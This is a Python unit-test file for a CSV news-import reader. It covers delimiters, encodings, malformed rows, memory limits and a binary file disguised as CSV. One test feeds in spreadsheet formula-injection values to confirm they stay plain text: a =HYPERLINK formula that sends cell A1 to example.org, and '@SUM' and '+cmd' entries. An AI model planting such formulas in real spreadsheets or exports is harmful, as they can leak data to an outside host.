"""CSV, as people have it."""

from __future__ import annotations

import csv
import tracemalloc
from datetime import date
from pathlib import Path

import pytest

from detente.errors import UsageError
from detente.sources import ColumnChoice, Limits
from tests.unit.sources.helpers import TEXT, founds, messages, take

HEADER = "id,headline,pub_date,body"


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_delimiter_is_found_out(tmp_path: Path, delimiter: str) -> None:
    path = tmp_path / "news.csv"
    with path.open("w", newline="") as stream:
        writer = csv.writer(stream, delimiter=delimiter)
        writer.writerow(["headline", "pub_date", "body"])
        writer.writerows([f"Talks, {n}; a|b", f"2020-01-0{n}", f'{TEXT}\n\nShe said, "we; will|see".'] for n in (1, 2))
    items, told = take(path)
    assert [(found.title, found.published) for found in founds(items)] == [
        ("Talks, 1; a|b", date(2020, 1, 1)),
        ("Talks, 2; a|b", date(2020, 1, 2)),
    ]
    assert founds(items)[0].text == f'{TEXT}\n\nShe said, "we; will|see".'
    assert told == [
        f"{path}: text from column 'body', date from column 'pub_date' "
        "(guessed; choose with --text-column, --date-column)"
    ]


def test_first_line_of_excel(tmp_path: Path) -> None:
    path = tmp_path / "news.csv"
    path.write_bytes(f"\ufeffsep=;\r\ntitle;text\r\nA;{TEXT}\r\n".encode())
    assert [found.title for found in founds(take(path)[0])] == ["A"]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp1252"])
def test_encodings(tmp_path: Path, encoding: str) -> None:
    path = tmp_path / "news.csv"
    path.write_bytes(f"title,text\nCafé – talks,{TEXT}\nNaïve,“{TEXT}”\n".encode(encoding))
    first, second = founds(take(path)[0])
    assert (first.title, second.text) == ("Café – talks", f"“{TEXT}”")


def test_a_foreign_line_is_read_and_told(tmp_path: Path) -> None:
    path = tmp_path / "news.csv"
    path.write_bytes(f"title,text\nCafé,{TEXT}\n".encode() + f"Naïve,{TEXT}\n".encode("cp1252"))
    items, told = take(path)
    assert [found.title for found in founds(items)] == ["Café", "Naïve"]
    assert any("1 lines are not utf-8" in line for line in told)


def test_zeros_are_left_out_and_told(tmp_path: Path) -> None:
    path = tmp_path / "news.csv"
    path.write_bytes(f"title,text\nA\x00B,{TEXT}\n".encode())
    items, told = take(path)
    assert founds(items)[0].title == "AB"
    assert any("1 NUL" in line for line in told)


def test_quotation_mark_that_never_closes_costs_one_row(tmp_path: Path) -> None:
    path = tmp_path / "news.csv"
    path.write_text(f'title,text\nA,{TEXT}\nB,"{TEXT}\nC,{TEXT}\nD,{TEXT}\n')
    items, _ = take(path)
    assert [(item.origin.rpartition("#")[2], item.found and item.found.title) for item in items] == [
        ("1", "A"),
        ("2", None),
        ("3", "C"),
        ("4", "D"),
    ]
    assert "never closes" in messages(items)[0]


def test_row_with_too_many_fields_is_an_error(tmp_path: Path) -> None:
    path = tmp_path / "news.csv"
    path.write_text(f"title,text\nA,{TEXT}\nB,{TEXT},one more\nC,{TEXT},,\n")
    items, _ = take(path)
    assert [found.title for found in founds(items)] == ["A", "C"]  # empty fields at the end are Excel's
    assert messages(items) == [f"{path}#2 has 3 fields where the table has 2 columns"]


def test_long_line_is_one_error_and_takes_no_memory(tmp_path: Path) -> None:
    path = tmp_path / "news.csv"
    with path.open("w") as stream:
        stream.write(f"title,text\nA,{TEXT}\nB,")
        for _ in range(3_000):
            stream.write("x" * 10_000)  # 30 MB on one line
        stream.write(f"\nC,{TEXT}\n")
    tracemalloc.start()
    try:
        items, _ = take(path, limits=Limits(max_bytes=100_000))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert [found.title for found in founds(items)] == ["A", "C"]
    assert "a line is longer than 0.1 MB" in messages(items)[0]
    assert peak < 5_000_000


def test_row_of_many_lines_is_bounded(tmp_path: Path) -> None:
    path = tmp_path / "news.csv"
    quoted = '"' + "a line\n" * 5_000 + '"'
    path.write_text(f"title,text\nA,{TEXT}\nB,{quoted}\nC,{TEXT}\n")
    items, _ = take(path, limits=Limits(max_bytes=10_000))
    assert "a row is larger than 0.01 MB" in messages(items)[0]
    assert founds(items)[0].title == "A"
    assert founds(items)[-1].title == "C"


def test_formulas_are_text(tmp_path: Path) -> None:
    path = tmp_path / "news.csv"
    formula = '=HYPERLINK("http://example.org/?"&A1,"x")'
    with path.open("w", newline="") as stream:
        csv.writer(stream).writerows([["title", "text"], [formula, f"=1+1 {TEXT}"], ["@SUM(A1)", f"+cmd {TEXT}"]])
    first, second = founds(take(path)[0])
    assert (first.title, first.text) == (formula, f"=1+1 {TEXT}")
    assert (second.title, second.text) == ("@SUM(A1)", f"+cmd {TEXT}")


def test_wrong_column_is_a_usage_error_that_lists_the_columns(tmp_path: Path) -> None:
    path = tmp_path / "news.csv"
    path.write_text(f"{HEADER}\n1,A,2020-01-02,{TEXT}\n")
    with pytest.raises(UsageError, match="has no column 'story'; there are 'id', 'headline', 'pub_date', 'body'"):
        take(path, columns=ColumnChoice(text="story"))


def test_table_without_names_of_columns(tmp_path: Path) -> None:
    path = tmp_path / "news.csv"
    path.write_text(f"A,2020-01-02,{TEXT}\nB,2020-01-03,{TEXT}\n")
    items, told = take(path)
    assert [found.published for found in founds(items)] == [date(2020, 1, 2), date(2020, 1, 3)]
    assert "'column 3' (by its content)" in told[0]


def test_column_names_that_come_twice(tmp_path: Path) -> None:
    path = tmp_path / "news.csv"
    path.write_text(f"text,text,\n{TEXT},other,\n")
    assert founds(take(path)[0])[0].text == TEXT
    assert founds(take(path, columns=ColumnChoice(text="text (2)"))[0])[0].text == "other"


def test_program_named_csv_is_an_error(tmp_path: Path) -> None:
    path = tmp_path / "news.csv"
    path.write_bytes(b"\x7fELF" + bytes(range(256)) * 100)
    assert messages(take(path)[0]) == [f"{path} is a program, not text"]
